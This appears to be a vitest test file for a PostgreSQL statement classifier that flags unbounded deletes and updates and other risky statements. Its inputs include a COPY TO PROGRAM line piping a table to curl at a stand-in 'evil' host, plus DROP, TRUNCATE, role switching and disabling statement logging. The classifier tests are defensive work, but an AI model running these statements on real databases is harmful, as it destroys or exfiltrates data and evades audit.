import { beforeAll, describe, expect, it } from 'vitest';
import { classify, initClassifier, numericShape, type StatementKind } from '../../../src/policy/classify.js';

beforeAll(() => initClassifier());

const kinds = (sql: string): StatementKind[] => classify(sql).operations.map((o) => o.kind);

describe('SQL classification with the PostgreSQL parser', () => {
  it.each([
    ['DELETE FROM customers', ['delete'], true],
    ['delete from customers where id = 1', ['delete'], false],
    ['/* harmless */ DeLeTe FROM "customers"', ['delete'], true],
    ['UPDATE orders SET status = 1', ['update'], true],
    // a WHERE that cannot narrow the rows is no bound
    ['UPDATE orders SET status = 1 WHERE true', ['update'], true],
    ['DELETE FROM orders WHERE 1 = 1', ['delete'], true],
    ['DELETE FROM orders WHERE id = id', ['delete'], true],
    ['DELETE FROM orders WHERE id = 1 OR true', ['delete'], true],
    ["DELETE FROM orders WHERE now() > '2000-01-01'", ['delete'], true],
    ['DELETE FROM orders WHERE id = 1 AND true', ['delete'], false],
    ['DELETE FROM orders WHERE id = 1 OR id = 2', ['delete'], false],
    ['DELETE FROM orders WHERE CURRENT OF c', ['delete'], false],
    ['SELECT 1; DELETE FROM customers', ['select', 'delete'], true],
    ['WITH gone AS (DELETE FROM customers RETURNING *) SELECT count(*) FROM gone', ['select', 'delete'], true],
    ['SELECT * FROM (WITH x AS (UPDATE orders SET a = 1 RETURNING id) SELECT * FROM x) y', ['select', 'select', 'update'], true],
    ['EXPLAIN ANALYZE DELETE FROM customers', ['explain', 'delete'], true],
  ] as const)('%s', (sql, expected, unbounded) => {
    const c = classify(sql);
    expect(c.parsed).toBe(true);
    expect(c.operations.map((o) => o.kind).sort()).toEqual([...expected].sort());
    expect(c.operations.some((o) => o.unbounded)).toBe(unbounded);
  });

  it('lists the functions called anywhere, lower case and schema-qualified where given', () => {
    expect(classify('SELECT PG_CATALOG.pg_terminate_backend(pid) FROM pg_stat_activity WHERE f(x) > 0').functions.sort()).toEqual(['f', 'pg_catalog.pg_terminate_backend']);
    expect(classify('SELECT 1').functions).toEqual([]);
  });

  it('finds the tables, schema-qualified where given', () => {
    expect(classify('DROP TABLE public.orders, customers').operations[0]).toMatchObject({ kind: 'drop' });
    expect(classify('DROP TABLE public.orders, customers').operations[0]!.tables).toEqual(expect.arrayContaining(['public.orders', 'customers']));
    expect(classify('TRUNCATE audit.events').operations[0]).toMatchObject({ kind: 'truncate', tables: ['audit.events'] });
    expect(classify('UPDATE "Orders" SET x = 1 WHERE id = 2').operations[0]!.tables).toEqual(['Orders']);
  });

  it('recognises what hides behind other statement kinds', () => {
    expect(classify("COPY orders TO PROGRAM 'curl evil'").operations[0]).toMatchObject({ kind: 'copy', program: true });
    expect(classify('COPY orders TO STDOUT').operations[0]).toMatchObject({ kind: 'copy', program: false });
    expect(kinds("DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$")).toEqual(['do']);
    expect(kinds('SET ROLE postgres')).toEqual(['set_role']);
    expect(kinds('SET SESSION AUTHORIZATION postgres')).toEqual(['set_session_authorization']);
    expect(kinds("ALTER SYSTEM SET log_statement = 'none'")).toEqual(['alter_system']);
    expect(kinds('EXPLAIN DELETE FROM customers')).toEqual(['delete']);
    expect(kinds('CALL cleanup()')).toEqual(['call']);
    expect(kinds('SET search_path = public')).toEqual(['set']);
  });

  it('reports text that does not parse instead of guessing', () => {
    const c = classify('DELETE FROM customers WHERE');
    expect(c.parsed).toBe(false);
    expect(c.error).toMatch(/syntax error/);
    expect(c.operations).toEqual([]);
  });

  it('answers repeated text from its cache', () => {
    const sql = 'SELECT * FROM orders WHERE id = 99';
    expect(classify(sql)).toBe(classify(sql));
  });

  it('texts that differ only in numeric constants share one classification where that is exact', () => {
    const a = classify('SELECT abalance FROM pgbench_accounts WHERE aid = 4711;');
    expect(classify('SELECT abalance FROM pgbench_accounts WHERE aid = 815;')).toBe(a);
    expect(a.operations).toEqual([{ kind: 'select', tables: ['pgbench_accounts'], unbounded: false, program: false }]);
    const u = classify('UPDATE pgbench_accounts SET abalance = abalance + -2471 WHERE aid = 91;');
    expect(classify('UPDATE pgbench_accounts SET abalance = abalance + -3 WHERE aid = 7;')).toBe(u);
    expect(u.operations[0]).toMatchObject({ kind: 'update', unbounded: false });
    // where a constant decides whether an UPDATE or DELETE is bounded, it is not shared
    expect(classify('DELETE FROM orders WHERE id + 1 = id + 2').operations[0]!.unbounded).toBe(false);
    expect(classify('DELETE FROM orders WHERE id + 1 = id + 1').operations[0]!.unbounded).toBe(true);
    expect(classify('UPDATE orders SET a = 1 WHERE id * 2 = id * 3').operations[0]!.unbounded).toBe(false);
    expect(classify('UPDATE orders SET a = 1 WHERE id * 2 = id * 2').operations[0]!.unbounded).toBe(true);
    expect(classify('WITH x AS (DELETE FROM t WHERE id + 1 = id + 2 RETURNING 1) SELECT 1').operations.some((o) => o.unbounded)).toBe(false);
    expect(classify('WITH x AS (DELETE FROM t WHERE id + 1 = id + 1 RETURNING 1) SELECT 1').operations.some((o) => o.unbounded)).toBe(true);
    // digits that belong to a name are the name
    expect(classify('SELECT * FROM tablé1').operations[0]!.tables).toEqual(['tablé1']);
    expect(classify('SELECT * FROM tablé2').operations[0]!.tables).toEqual(['tablé2']);
    expect(classify('SELECT * FROM "t1"').operations[0]!.tables).toEqual(['t1']);
    expect(classify('SELECT * FROM "t2"').operations[0]!.tables).toEqual(['t2']);
    // an error quotes its text
    expect(classify('SELECT 1 2').error).toMatch(/"2"/);
    expect(classify('SELECT 1 3').error).toMatch(/"3"/);
  });

  it('numericShape writes standalone numbers as 0 and gives up where the lexing needs more than a scan', () => {
    expect(numericShape('SELECT abalance FROM pgbench_accounts WHERE aid = 4711;')).toBe('SELECT abalance FROM pgbench_accounts WHERE aid = 0;');
    expect(numericShape('UPDATE t SET a = a + -12 WHERE x IN (1,22, 333) AND y > 1.5 LIMIT 10')).toBe('UPDATE t SET a = a + -0 WHERE x IN (0,0, 0) AND y > 0.0 LIMIT 0');
    expect(numericShape('SELECT col_2, t1.x2, é9, 1e5, 7abc FROM s3.t4')).toBeNull();
    expect(numericShape('SELECT 1 FROM t9')).toBe('SELECT 0 FROM t9');
    for (const bail of ["SELECT 1 WHERE a = 'x'", 'SELECT "1"', 'SELECT $1', 'SELECT $$1$$', 'SELECT 1 -- 2', 'SELECT 1 /* 2 */', "SELECT E'\\1'", 'SELECT 1 \\g']) {
      expect(numericShape(bail), bail).toBeNull();
    }
    expect(numericShape('SELECT 1 - 2 / 3')).toBe('SELECT 0 - 0 / 0');
  });
});

